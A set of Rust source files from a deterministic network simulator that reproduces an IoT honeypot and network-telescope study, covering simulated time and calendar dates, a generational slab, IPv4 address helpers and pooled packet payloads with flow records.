    fn add_assign(&mut self, rhs: SimDuration) {
        self.0 += rhs.0;
    }
}

impl Sub<SimTime> for SimTime {
    type Output = SimDuration;
    fn sub(self, rhs: SimTime) -> SimDuration {
        self.since(rhs)
    }
}

impl Add<SimDuration> for SimDuration {
    type Output = SimDuration;
    fn add(self, rhs: SimDuration) -> SimDuration {
        SimDuration(self.0 + rhs.0)
    }
}

impl fmt::Display for SimTime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let date = self.date();
        let ms_of_day = self.0 % 86_400_000;
        let (h, m, s) = (
            ms_of_day / 3_600_000,
            (ms_of_day / 60_000) % 60,
            (ms_of_day / 1_000) % 60,
        );
        write!(f, "{date}T{h:02}:{m:02}:{s:02}Z")
    }
}

impl fmt::Display for SimDuration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.0 < 1_000 {
            write!(f, "{}ms", self.0)
        } else if self.0 < 60_000 {
            write!(f, "{:.1}s", self.0 as f64 / 1_000.0)
        } else if self.0 < 3_600_000 {
            write!(f, "{:.1}min", self.0 as f64 / 60_000.0)
        } else {
            write!(f, "{:.1}h", self.0 as f64 / 3_600_000.0)
        }
    }
}

/// A proleptic-Gregorian calendar date (UTC).
///
/// Implements the standard civil-date ↔ day-number conversion (Howard Hinnant's
/// `days_from_civil` algorithm) so the simulator can report paper-style dates
/// without pulling in a calendar dependency.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct SimDate {
    pub year: i32,
    /// 1-based month.
    pub month: u8,
    /// 1-based day of month.
    pub day: u8,
}

impl SimDate {
    pub const fn new(year: i32, month: u8, day: u8) -> Self {
        SimDate { year, month, day }
    }

    /// Days since 1970-01-01 (may be negative).
    pub fn to_epoch_days(self) -> i64 {
        let y = if self.month <= 2 {
            self.year - 1
        } else {
            self.year
        } as i64;
        let era = if y >= 0 { y } else { y - 399 } / 400;
        let yoe = y - era * 400; // [0, 399]
        let mp = (self.month as i64 + 9) % 12; // [0, 11], March = 0
        let doy = (153 * mp + 2) / 5 + self.day as i64 - 1; // [0, 365]
        let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy; // [0, 146096]
        era * 146_097 + doe - 719_468
    }

    /// Inverse of [`Self::to_epoch_days`].
    pub fn from_epoch_days(z: i64) -> Self {
        let z = z + 719_468;
        let era = if z >= 0 { z } else { z - 146_096 } / 146_097;
        let doe = z - era * 146_097; // [0, 146096]
        let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365; // [0, 399]
        let y = yoe + era * 400;
        let doy = doe - (365 * yoe + yoe / 4 - yoe / 100); // [0, 365]
        let mp = (5 * doy + 2) / 153; // [0, 11]
        let day = (doy - (153 * mp + 2) / 5 + 1) as u8; // [1, 31]
        let month = if mp < 10 { mp + 3 } else { mp - 9 } as u8; // [1, 12]
        let year = if month <= 2 { y + 1 } else { y } as i32;
        SimDate { year, month, day }
    }

    /// Signed number of days from `other` to `self`.
    pub fn days_since(self, other: SimDate) -> i64 {
        self.to_epoch_days() - other.to_epoch_days()
    }

    pub fn plus_days(self, days: i64) -> SimDate {
        SimDate::from_epoch_days(self.to_epoch_days() + days)
    }
}

impl fmt::Display for SimDate {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:04}-{:02}-{:02}", self.year, self.month, self.day)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn epoch_date_roundtrip() {
        let d = SIM_EPOCH_DATE;
        assert_eq!(SimDate::from_epoch_days(d.to_epoch_days()), d);
        // Known anchor: 1970-01-01 is epoch day 0.
        assert_eq!(SimDate::new(1970, 1, 1).to_epoch_days(), 0);
        // 2021-03-01 is 18687 days after the Unix epoch.
        assert_eq!(SIM_EPOCH_DATE.to_epoch_days(), 18_687);
    }

    #[test]
    fn leap_years_handled() {
        // 2020 was a leap year: Feb 29 exists and Mar 1 follows it.
        let feb29 = SimDate::new(2020, 2, 29);
        assert_eq!(feb29.plus_days(1), SimDate::new(2020, 3, 1));
        // 2021 is not: Feb 28 -> Mar 1.
        assert_eq!(
            SimDate::new(2021, 2, 28).plus_days(1),
            SimDate::new(2021, 3, 1)
        );
        // 1900 was not a leap year (century rule), 2000 was (400 rule).
        assert_eq!(
            SimDate::new(1900, 2, 28).plus_days(1),
            SimDate::new(1900, 3, 1)
        );
        assert_eq!(
            SimDate::new(2000, 2, 28).plus_days(1),
            SimDate::new(2000, 2, 29)
        );
    }

    #[test]
    fn sim_time_calendar() {
        // Day 31 of the simulation is April 1st 2021: the honeypot month begins.
        let t = SimTime::from_date(SimDate::new(2021, 4, 1));
        assert_eq!(t.day_index(), 31);
        assert_eq!(t.date(), SimDate::new(2021, 4, 1));
        assert_eq!(format!("{t}"), "2021-04-01T00:00:00Z");
    }

    #[test]
    fn duration_arithmetic() {
        let t = SimTime::ZERO + SimDuration::from_days(2) + SimDuration::from_hours(3);
        assert_eq!(t.day_index(), 2);
        assert_eq!(t.hour_index(), 51);
        assert_eq!(t.since(SimTime::ZERO).as_secs(), 2 * 86_400 + 3 * 3_600);
        // Saturating subtraction never underflows.
        assert_eq!(SimTime::ZERO.since(t), SimDuration::ZERO);
    }

    #[test]
    fn displays() {
        assert_eq!(format!("{}", SimDuration::from_millis(12)), "12ms");
        assert_eq!(format!("{}", SimDuration::from_secs(2)), "2.0s");
        assert_eq!(format!("{}", SimDuration::from_mins(90)), "1.5h");
        assert_eq!(format!("{SIM_EPOCH_DATE}"), "2021-03-01");
    }
}
