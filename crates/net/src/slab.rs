//! Generational slab backing the fabric's connection table.
//!
//! Connection lifecycles are short (a SYN timeout or one grab window), so
//! the table sees millions of insert/remove cycles per shard while holding
//! only tens of thousands of live entries. A hash map pays hashing plus
//! probing on every operation; the slab is a plain `Vec` indexed by slot,
//! with a free list for reuse — every operation is a bounds check and a
//! direct index.
//!
//! Ids pack `(generation << 32) | slot`. Removing an entry bumps the slot's
//! generation, so a stale id (a late timeout for a connection that already
//! completed) misses instead of aliasing the slot's next occupant —
//! exactly the semantics the old `HashMap<u64, _>` with globally unique
//! ids provided.

/// A slab of `T` with generationally versioned ids.
#[derive(Debug)]
pub struct Slab<T> {
    slots: Vec<Slot<T>>,
    free: Vec<u32>,
    len: usize,
}

#[derive(Debug)]
struct Slot<T> {
    gen: u32,
    val: Option<T>,
}

#[inline]
fn pack(gen: u32, slot: u32) -> u64 {
    (gen as u64) << 32 | slot as u64
}

#[inline]
fn unpack(id: u64) -> (u32, u32) {
    ((id >> 32) as u32, id as u32)
}

impl<T> Default for Slab<T> {
    fn default() -> Self {
        Self::new()
    }
}

impl<T> Slab<T> {
    pub fn new() -> Self {
        Slab {
            slots: Vec::new(),
            free: Vec::new(),
            len: 0,
        }
    }

    /// Number of live entries.
    pub fn len(&self) -> usize {
        self.len
    }

    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// The id the next [`Self::insert`] will return.
    pub fn peek_next_id(&self) -> u64 {
        match self.free.last() {
            Some(&slot) => pack(self.slots[slot as usize].gen, slot),
            None => pack(0, self.slots.len() as u32),
        }
    }

    /// Insert a value, returning its id.
    pub fn insert(&mut self, val: T) -> u64 {
        self.len += 1;
        match self.free.pop() {
            Some(slot) => {
                let s = &mut self.slots[slot as usize];
                debug_assert!(s.val.is_none());
                s.val = Some(val);
                pack(s.gen, slot)
            }
            None => {
                let slot = self.slots.len() as u32;
                self.slots.push(Slot { gen: 0, val: Some(val) });
                pack(0, slot)
            }
        }
    }

    /// Look up a live entry. Stale ids (removed, or a reused slot) miss.
    #[inline]
    pub fn get(&self, id: u64) -> Option<&T> {
        let (gen, slot) = unpack(id);
        let s = self.slots.get(slot as usize)?;
        if s.gen != gen {
            return None;
        }
        s.val.as_ref()
    }

    /// Mutable lookup with the same staleness rules as [`Self::get`].
    #[inline]
    pub fn get_mut(&mut self, id: u64) -> Option<&mut T> {
        let (gen, slot) = unpack(id);
        let s = self.slots.get_mut(slot as usize)?;
        if s.gen != gen {
            return None;
        }
        s.val.as_mut()
    }

    /// Remove and return an entry; bumps the slot generation so the id is
    /// permanently invalidated.
    pub fn remove(&mut self, id: u64) -> Option<T> {
        let (gen, slot) = unpack(id);
        let s = self.slots.get_mut(slot as usize)?;
        if s.gen != gen {
            return None;
        }
        let val = s.val.take()?;
        s.gen = s.gen.wrapping_add(1);
        self.free.push(slot);
        self.len -= 1;
        Some(val)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn insert_get_remove_roundtrip() {
        let mut s = Slab::new();
        let a = s.insert("a");
        let b = s.insert("b");
        assert_eq!(s.len(), 2);
        assert_eq!(s.get(a), Some(&"a"));
        assert_eq!(s.get(b), Some(&"b"));
        assert_eq!(s.remove(a), Some("a"));
        assert_eq!(s.get(a), None);
        assert_eq!(s.len(), 1);
    }

    #[test]
    fn stale_id_misses_after_slot_reuse() {
        let mut s = Slab::new();
        let a = s.insert(1);
        s.remove(a);
        let b = s.insert(2);
        // Same slot, new generation: the old id must not alias.
        assert_ne!(a, b);
        assert_eq!(s.get(a), None);
        assert_eq!(s.get(b), Some(&2));
        assert_eq!(s.remove(a), None);
        assert_eq!(s.len(), 1);
    }

    #[test]
    fn peek_next_id_predicts_insert() {
        let mut s = Slab::new();
        assert_eq!(s.peek_next_id(), s.insert("x"));
        let y = s.insert("y");
        s.remove(y);
        // Freed slot is reused next, at its bumped generation.
        assert_eq!(s.peek_next_id(), s.insert("z"));
    }

    #[test]
    fn double_remove_is_none() {
        let mut s = Slab::new();
        let a = s.insert(9);
        assert_eq!(s.remove(a), Some(9));
        assert_eq!(s.remove(a), None);
    }

    #[test]
    fn get_mut_mutates_in_place() {
        let mut s = Slab::new();
        let a = s.insert(vec![1u8]);
        s.get_mut(a).unwrap().push(2);
        assert_eq!(s.get(a), Some(&vec![1u8, 2]));
    }
}
