//! # ofh-net — deterministic discrete-event Internet simulator
//!
//! This crate is the substrate for the `openforhire` reproduction of the IMC '21
//! paper *"Open for hire: attack trends and misconfiguration pitfalls of IoT
//! devices"*. The paper's experiments (an Internet-wide IPv4 scan, a month-long
//! honeypot deployment, and a /8 network-telescope capture) all operate on the real
//! Internet, which is not reproducible. `ofh-net` provides the closest synthetic
//! equivalent: a **deterministic, event-driven simulation** of a (scaled) IPv4
//! address space in which hosts exchange real protocol bytes.
//!
//! Design notes (following the smoltcp school of event-driven network code):
//!
//! * **No wall clock, no ambient randomness.** Time is a simulated millisecond
//!   counter ([`SimTime`]) starting at the simulation epoch (2021-03-01T00:00Z,
//!   the first scan day of the paper). All randomness flows from seeds derived
//!   via [`rng::derive_seed`]. The same seed always produces the same packet
//!   trace, which is what makes the reproduction's tables reproducible.
//! * **Session-level transport.** TCP is modelled as a reliable, ordered,
//!   connection-oriented byte stream with an explicit lifecycle
//!   (connect/accept/refuse/data/close) plus latency and loss; UDP as unreliable
//!   datagrams. Sequence numbers and retransmission are below the abstraction
//!   line — the paper's pipelines only ever observe banners, payloads, and flow
//!   metadata, all of which are delivered faithfully.
//! * **Sparse occupancy.** The simulated Internet may span 2^32 addresses, but
//!   only occupied addresses carry agents; probes to empty space cost one heap
//!   event. A flow tap can be attached to a CIDR range of *unoccupied* space,
//!   which is exactly how the paper's /8 network telescope works.
//!
//! The crate deliberately contains no IoT/scanning logic: it knows about
//! addresses, time, packets, sessions, faults, and agents — nothing else.
//!
//! ```
//! use ofh_net::{ip, Agent, ConnToken, NetCtx, Payload, SimNet, SimNetConfig, SimTime, SockAddr, TcpDecision};
//!
//! struct Greeter;
//! impl Agent for Greeter {
//!     fn on_tcp_open(&mut self, _: &mut NetCtx<'_>, _: ConnToken, _: u16, _: SockAddr) -> TcpDecision {
//!         TcpDecision::accept_with(b"hello, world")
//!     }
//! }
//!
//! struct Caller { dst: SockAddr, got: Vec<u8> }
//! impl Agent for Caller {
//!     fn on_boot(&mut self, ctx: &mut NetCtx<'_>) { ctx.tcp_connect(self.dst); }
//!     fn on_tcp_data(&mut self, _: &mut NetCtx<'_>, _: ConnToken, data: &Payload) {
//!         self.got.extend_from_slice(data);
//!     }
//! }
//!
//! let mut net = SimNet::new(SimNetConfig::default());
//! let server = ip(10, 0, 0, 1);
//! net.attach(server, Box::new(Greeter));
//! let caller = net.attach(ip(10, 0, 0, 2), Box::new(Caller {
//!     dst: SockAddr::new(server, 23),
//!     got: Vec::new(),
//! }));
//! net.run_until(SimTime(5_000));
//! assert_eq!(net.agent_downcast::<Caller>(caller).unwrap().got, b"hello, world");
//! ```

pub mod addr;
pub mod agent;
pub mod cidr;
pub mod event;
pub mod fasthash;
pub mod fault;
pub mod packet;
pub mod rng;
pub mod shard;
pub mod sim;
pub mod slab;
pub mod time;
pub mod wheel;

pub use addr::{ip, ipu, SockAddr};
pub use agent::{Agent, AgentId, ConnToken, NetCtx, TcpDecision};
pub use event::{EventQueue, HeapQueue};
pub use cidr::{Cidr, CidrSet};
pub use fasthash::{FastMap, FastSet};
pub use fault::{churn_dark, Direction, FaultPhase, FaultPlan, FaultSchedule, FaultScope, Ramp};
pub use packet::{FlowKind, FlowObservation, Payload, PayloadBuilder, Transport, POOL_MIN_CAPACITY};
pub use shard::{shard_of, ShardSpec, MAX_SHARDS};
pub use sim::{EgressStats, HostSpawner, LatencyModel, SimNet, SimNetConfig};
pub use slab::Slab;
pub use time::{SimDate, SimDuration, SimTime, SIM_EPOCH_DATE};
pub use wheel::TimerWheel;
