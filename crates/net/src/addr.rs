//! IPv4 address utilities.
//!
//! The simulator identifies hosts by `std::net::Ipv4Addr`. Conversions to and
//! from `u32` are used pervasively (the ZMap-style scanner iterates the address
//! space as integers; CIDR sets operate on prefix bits), so tiny helpers live
//! here rather than being re-derived in every crate.

use std::fmt;
use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

/// Construct an [`Ipv4Addr`] from four octets. Shorthand used throughout the
/// workspace's tests and catalogs.
pub const fn ip(a: u8, b: u8, c: u8, d: u8) -> Ipv4Addr {
    Ipv4Addr::new(a, b, c, d)
}

/// Construct an [`Ipv4Addr`] from its `u32` representation (network order).
pub const fn ipu(v: u32) -> Ipv4Addr {
    Ipv4Addr::new(
        (v >> 24) as u8,
        (v >> 16) as u8,
        (v >> 8) as u8,
        v as u8,
    )
}

/// A socket address within the simulation: IPv4 address + port.
///
/// `std::net::SocketAddrV4` would work, but a local type lets us derive
/// `Serialize`/`Deserialize` and keep `Ord` (needed for deterministic
/// iteration over result maps).
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize,
)]
pub struct SockAddr {
    pub addr: Ipv4Addr,
    pub port: u16,
}

impl SockAddr {
    pub const fn new(addr: Ipv4Addr, port: u16) -> Self {
        SockAddr { addr, port }
    }
}

impl fmt::Display for SockAddr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}", self.addr, self.port)
    }
}

impl From<(Ipv4Addr, u16)> for SockAddr {
    fn from((addr, port): (Ipv4Addr, u16)) -> Self {
        SockAddr { addr, port }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn u32_roundtrip() {
        let a = ip(192, 168, 0, 64);
        assert_eq!(ipu(u32::from(a)), a);
        assert_eq!(u32::from(ip(0, 0, 0, 1)), 1);
        assert_eq!(ipu(0xFFFF_FFFF), ip(255, 255, 255, 255));
    }

    #[test]
    fn sockaddr_display_and_order() {
        let s = SockAddr::new(ip(10, 0, 0, 1), 23);
        assert_eq!(s.to_string(), "10.0.0.1:23");
        let t = SockAddr::new(ip(10, 0, 0, 1), 2323);
        assert!(s < t);
    }
}
