//! Packet- and flow-level observations.
//!
//! The simulator's transport is session-based, but two consumers need a
//! packet's-eye view: the network telescope (which records one FlowTuple per
//! flow it sees) and the per-host pcap-style capture the paper analyses with
//! `tcpdump`. [`FlowObservation`] is the common record both are fed with.

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};

use crate::time::SimTime;

/// Transport protocol of a simulated packet/flow.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Transport {
    Tcp,
    Udp,
}

impl Transport {
    /// IANA protocol number, as recorded in FlowTuple's `protocol` field.
    pub const fn protocol_number(self) -> u8 {
        match self {
            Transport::Tcp => 6,
            Transport::Udp => 17,
        }
    }
}

/// What kind of packet a flow observation describes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum FlowKind {
    /// TCP connection attempt (SYN).
    TcpSyn,
    /// Data on an established TCP connection.
    TcpData,
    /// A UDP datagram.
    UdpDatagram,
}

/// A single observed packet, as seen by a capture tap.
///
/// Field selection mirrors what the CAIDA FlowTuple format records per flow
/// (source/destination, ports, protocol, TTL, TCP flags, lengths) plus the
/// payload for honeypot-side pcap analysis. Taps on unoccupied space (the
/// telescope) only ever see first packets, because nothing answers.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FlowObservation {
    pub time: SimTime,
    pub src: Ipv4Addr,
    pub dst: Ipv4Addr,
    pub src_port: u16,
    pub dst_port: u16,
    pub transport: Transport,
    pub kind: FlowKind,
    /// IP TTL as it arrives at the observation point.
    pub ttl: u8,
    /// TCP flags byte (SYN=0x02, ACK=0x10, …); zero for UDP.
    pub tcp_flags: u8,
    /// Advertised TCP window in the SYN; zero for UDP. Scanning tools have
    /// characteristic values (masscan: 1024, ZMap: 65535), which is how the
    /// telescope computes its `is_masscan` flag — mirroring how CAIDA derives
    /// the flag from packet quirks rather than from ground truth.
    pub tcp_window: u16,
    /// Total IP packet length in bytes.
    pub ip_len: u16,
    /// Application payload carried by this packet (empty for a bare SYN).
    pub payload: Vec<u8>,
    /// Whether the sender marked this packet as having a spoofed source
    /// (simulation ground truth used to populate FlowTuple's `is_spoofed`).
    pub spoofed: bool,
}

impl FlowObservation {
    /// TCP flag constants.
    pub const SYN: u8 = 0x02;
    pub const ACK: u8 = 0x10;
    pub const PSH: u8 = 0x08;
    pub const RST: u8 = 0x04;
    pub const FIN: u8 = 0x01;
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addr::ip;

    #[test]
    fn protocol_numbers() {
        assert_eq!(Transport::Tcp.protocol_number(), 6);
        assert_eq!(Transport::Udp.protocol_number(), 17);
    }

    #[test]
    fn observation_roundtrips_json() {
        let obs = FlowObservation {
            time: SimTime(1234),
            src: ip(1, 2, 3, 4),
            dst: ip(5, 6, 7, 8),
            src_port: 40000,
            dst_port: 23,
            transport: Transport::Tcp,
            kind: FlowKind::TcpSyn,
            ttl: 48,
            tcp_flags: FlowObservation::SYN,
            tcp_window: 65535,
            ip_len: 40,
            payload: vec![],
            spoofed: false,
        };
        let json = serde_json::to_string(&obs).unwrap();
        let back: FlowObservation = serde_json::from_str(&json).unwrap();
        assert_eq!(obs, back);
    }
}
