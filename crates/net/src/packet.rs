//! Packet- and flow-level observations, and the shared [`Payload`] buffer
//! every packet carries.
//!
//! The simulator's transport is session-based, but two consumers need a
//! packet's-eye view: the network telescope (which records one FlowTuple per
//! flow it sees) and the per-host pcap-style capture the paper analyses with
//! `tcpdump`. [`FlowObservation`] is the common record both are fed with.
//!
//! ## Payload memory model
//!
//! A [`Payload`] is an immutable, cheaply cloneable byte buffer: cloning
//! bumps a reference count (or copies a pointer for static data), never the
//! bytes. The fabric moves one `Payload` from sender to event queue to
//! receiver to capture tap without copying; a probe template encoded once
//! can back millions of in-flight packets. Mutable construction goes
//! through [`PayloadBuilder`], whose backing `Vec` comes from a thread-local
//! free list and returns there when the last clone drops — in steady state
//! the per-packet path performs no heap growth at all. See DESIGN.md
//! ("Hot-path memory model") for the pooling rules.

use std::net::Ipv4Addr;
use std::ops::Deref;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use serde::{Deserialize, Serialize};

use crate::time::SimTime;

/// Buffers kept per thread for reuse; beyond this they are simply freed.
const POOL_MAX_BUFFERS: usize = 64;
/// Oversized buffers are not pooled (a pathological giant payload must not
/// pin its allocation forever).
const POOL_MAX_CAPACITY: usize = 64 * 1024;
/// Buffers below this capacity skip the pool entirely: for small payloads
/// the allocator is faster than the pool's thread-local free-list round
/// trip plus the `Drop`-to-pool plumbing, so [`PayloadBuilder::freeze`]
/// seals sub-threshold builds as a plain shared `Vec` and [`pool_give`]
/// drops sub-threshold returns. The `payload_crossover` grid in
/// `BENCH_hotpath.json` measures both paths per size; on the reference
/// 1-core container the pool first wins at 4096 B (e.g. 74 ns vs the
/// allocator's 92 ns), while at 1 KiB and below the allocator is 20–30%
/// faster — hence this value.
pub const POOL_MIN_CAPACITY: usize = 4096;

static POOL_HITS: AtomicU64 = AtomicU64::new(0);
static POOL_MISSES: AtomicU64 = AtomicU64::new(0);

thread_local! {
    static FREE_BUFFERS: std::cell::RefCell<Vec<Vec<u8>>> =
        const { std::cell::RefCell::new(Vec::new()) };
}

fn pool_take() -> Vec<u8> {
    let reused = FREE_BUFFERS.with(|p| p.borrow_mut().pop());
    match reused {
        Some(mut buf) => {
            POOL_HITS.fetch_add(1, Ordering::Relaxed);
            buf.clear();
            buf
        }
        None => {
            POOL_MISSES.fetch_add(1, Ordering::Relaxed);
            Vec::new()
        }
    }
}

fn pool_give(buf: Vec<u8>) {
    if buf.capacity() < POOL_MIN_CAPACITY || buf.capacity() > POOL_MAX_CAPACITY {
        return;
    }
    FREE_BUFFERS.with(|p| {
        let mut pool = p.borrow_mut();
        if pool.len() < POOL_MAX_BUFFERS {
            pool.push(buf);
        }
    });
}

/// A pooled backing buffer; returns its `Vec` to the owning thread's free
/// list when the last [`Payload`] clone drops.
#[derive(Debug)]
struct PoolBuf {
    data: Vec<u8>,
}

impl Drop for PoolBuf {
    fn drop(&mut self) {
        pool_give(std::mem::take(&mut self.data));
    }
}

#[derive(Debug, Clone)]
enum Repr {
    /// Borrowed static bytes (protocol constants, greetings): zero-cost
    /// clone, no allocation ever.
    Static(&'static [u8]),
    /// Shared ownership of a plain `Vec` (the common conversion path).
    Shared(Arc<Vec<u8>>),
    /// Shared ownership of a pooled buffer (the hot-path build path).
    Pooled(Arc<PoolBuf>),
}

/// An immutable, cheaply cloneable packet payload. See the module docs for
/// the memory model.
#[derive(Debug, Clone)]
pub struct Payload(Repr);

impl Payload {
    /// The empty payload (a bare SYN, a zero-length datagram).
    pub fn empty() -> Payload {
        Payload(Repr::Static(&[]))
    }

    /// Wrap static bytes without copying.
    pub fn from_static(bytes: &'static [u8]) -> Payload {
        Payload(Repr::Static(bytes))
    }

    /// The payload bytes.
    #[inline]
    pub fn as_slice(&self) -> &[u8] {
        match &self.0 {
            Repr::Static(s) => s,
            Repr::Shared(v) => v.as_slice(),
            Repr::Pooled(b) => b.data.as_slice(),
        }
    }

    /// Copy the bytes into a fresh `Vec` (for long-term storage outside the
    /// packet path).
    pub fn to_vec(&self) -> Vec<u8> {
        self.as_slice().to_vec()
    }

    /// Cumulative (hits, misses) of the thread-local buffer pool across all
    /// threads since process start. A hit is a `PayloadBuilder` that reused
    /// a pooled buffer instead of allocating.
    pub fn pool_stats() -> (u64, u64) {
        (
            POOL_HITS.load(Ordering::Relaxed),
            POOL_MISSES.load(Ordering::Relaxed),
        )
    }
}

impl Default for Payload {
    fn default() -> Self {
        Payload::empty()
    }
}

impl Deref for Payload {
    type Target = [u8];

    #[inline]
    fn deref(&self) -> &[u8] {
        self.as_slice()
    }
}

impl AsRef<[u8]> for Payload {
    fn as_ref(&self) -> &[u8] {
        self.as_slice()
    }
}

impl PartialEq for Payload {
    fn eq(&self, other: &Self) -> bool {
        self.as_slice() == other.as_slice()
    }
}
impl Eq for Payload {}

impl PartialEq<[u8]> for Payload {
    fn eq(&self, other: &[u8]) -> bool {
        self.as_slice() == other
    }
}

impl PartialEq<Vec<u8>> for Payload {
    fn eq(&self, other: &Vec<u8>) -> bool {
        self.as_slice() == other.as_slice()
    }
}

impl From<Vec<u8>> for Payload {
    fn from(v: Vec<u8>) -> Payload {
        Payload(Repr::Shared(Arc::new(v)))
    }
}

impl From<String> for Payload {
    fn from(s: String) -> Payload {
        Payload::from(s.into_bytes())
    }
}

impl From<&str> for Payload {
    fn from(s: &str) -> Payload {
        Payload::from(s.as_bytes())
    }
}

/// Copies borrowed slices of unknown origin. Sub-threshold copies go
/// straight to a plain shared `Vec` — not even a pool probe — since the
/// allocator wins below the crossover; larger ones recycle a pooled buffer.
impl From<&[u8]> for Payload {
    fn from(s: &[u8]) -> Payload {
        if s.len() < POOL_MIN_CAPACITY {
            return Payload(Repr::Shared(Arc::new(s.to_vec())));
        }
        let mut b = PayloadBuilder::new();
        b.extend_from_slice(s);
        b.freeze()
    }
}

/// Byte-string literals (`b"login: "`) are static: wrapped without copying.
impl<const N: usize> From<&'static [u8; N]> for Payload {
    fn from(s: &'static [u8; N]) -> Payload {
        Payload::from_static(s)
    }
}

impl From<&Payload> for Payload {
    fn from(p: &Payload) -> Payload {
        p.clone()
    }
}

/// Serializes exactly as `Vec<u8>` does (a JSON array of numbers), so the
/// payload swap is invisible in exported datasets.
impl Serialize for Payload {
    fn to_value(&self) -> serde::Value {
        serde::Value::Seq(self.as_slice().iter().map(|&b| serde::Value::U64(b as u64)).collect())
    }
}

impl Deserialize for Payload {
    fn from_value(v: &serde::Value) -> Result<Self, serde::DeError> {
        Vec::<u8>::from_value(v).map(Payload::from)
    }
}

/// Mutable construction site for a [`Payload`], backed by the thread-local
/// buffer pool. Deref to `Vec<u8>` for building; [`PayloadBuilder::freeze`]
/// seals it into an immutable shared payload.
#[derive(Debug)]
pub struct PayloadBuilder {
    buf: Vec<u8>,
}

impl Default for PayloadBuilder {
    fn default() -> Self {
        Self::new()
    }
}

impl PayloadBuilder {
    /// Take a cleared buffer from the pool (or allocate on a pool miss).
    pub fn new() -> PayloadBuilder {
        PayloadBuilder { buf: pool_take() }
    }

    /// Seal into an immutable, cheaply cloneable payload. Buffers with at
    /// least [`POOL_MIN_CAPACITY`] return to the pool when the last clone
    /// drops; smaller builds become plain shared `Vec`s, since below the
    /// crossover the pool round trip costs more than the allocation it
    /// would save.
    pub fn freeze(self) -> Payload {
        if self.buf.capacity() < POOL_MIN_CAPACITY {
            return Payload(Repr::Shared(Arc::new(self.buf)));
        }
        Payload(Repr::Pooled(Arc::new(PoolBuf { data: self.buf })))
    }
}

impl Deref for PayloadBuilder {
    type Target = Vec<u8>;

    fn deref(&self) -> &Vec<u8> {
        &self.buf
    }
}

impl std::ops::DerefMut for PayloadBuilder {
    fn deref_mut(&mut self) -> &mut Vec<u8> {
        &mut self.buf
    }
}

/// Transport protocol of a simulated packet/flow.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Transport {
    Tcp,
    Udp,
}

impl Transport {
    /// IANA protocol number, as recorded in FlowTuple's `protocol` field.
    pub const fn protocol_number(self) -> u8 {
        match self {
            Transport::Tcp => 6,
            Transport::Udp => 17,
        }
    }
}

/// What kind of packet a flow observation describes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum FlowKind {
    /// TCP connection attempt (SYN).
    TcpSyn,
    /// Data on an established TCP connection.
    TcpData,
    /// A UDP datagram.
    UdpDatagram,
}

/// A single observed packet, as seen by a capture tap.
///
/// Field selection mirrors what the CAIDA FlowTuple format records per flow
/// (source/destination, ports, protocol, TTL, TCP flags, lengths) plus the
/// payload for honeypot-side pcap analysis. Taps on unoccupied space (the
/// telescope) only ever see first packets, because nothing answers.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct FlowObservation {
    pub time: SimTime,
    pub src: Ipv4Addr,
    pub dst: Ipv4Addr,
    pub src_port: u16,
    pub dst_port: u16,
    pub transport: Transport,
    pub kind: FlowKind,
    /// IP TTL as it arrives at the observation point.
    pub ttl: u8,
    /// TCP flags byte (SYN=0x02, ACK=0x10, …); zero for UDP.
    pub tcp_flags: u8,
    /// Advertised TCP window in the SYN; zero for UDP. Scanning tools have
    /// characteristic values (masscan: 1024, ZMap: 65535), which is how the
    /// telescope computes its `is_masscan` flag — mirroring how CAIDA derives
    /// the flag from packet quirks rather than from ground truth.
    pub tcp_window: u16,
    /// Total IP packet length in bytes.
    pub ip_len: u16,
    /// Application payload carried by this packet (empty for a bare SYN).
    /// Shared with the in-flight packet — cloning an observation bumps a
    /// refcount instead of copying bytes.
    pub payload: Payload,
    /// Whether the sender marked this packet as having a spoofed source
    /// (simulation ground truth used to populate FlowTuple's `is_spoofed`).
    pub spoofed: bool,
}

impl FlowObservation {
    /// TCP flag constants.
    pub const SYN: u8 = 0x02;
    pub const ACK: u8 = 0x10;
    pub const PSH: u8 = 0x08;
    pub const RST: u8 = 0x04;
    pub const FIN: u8 = 0x01;
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addr::ip;

    #[test]
    fn payload_conversions_preserve_bytes() {
        let from_static = Payload::from(b"hello");
        let from_vec = Payload::from(b"hello".to_vec());
        let from_slice = Payload::from(&b"hello"[..]);
        assert_eq!(from_static, from_vec);
        assert_eq!(from_vec, from_slice);
        assert_eq!(&*from_static, b"hello");
        assert!(Payload::empty().is_empty());
    }

    #[test]
    fn payload_clone_shares_bytes() {
        let p = Payload::from(vec![1u8, 2, 3]);
        let q = p.clone();
        assert_eq!(p.as_slice().as_ptr(), q.as_slice().as_ptr());
    }

    #[test]
    fn payload_serde_matches_vec_format() {
        let p = Payload::from(vec![1u8, 2, 3]);
        assert_eq!(
            serde_json::to_string(&p).unwrap(),
            serde_json::to_string(&vec![1u8, 2, 3]).unwrap()
        );
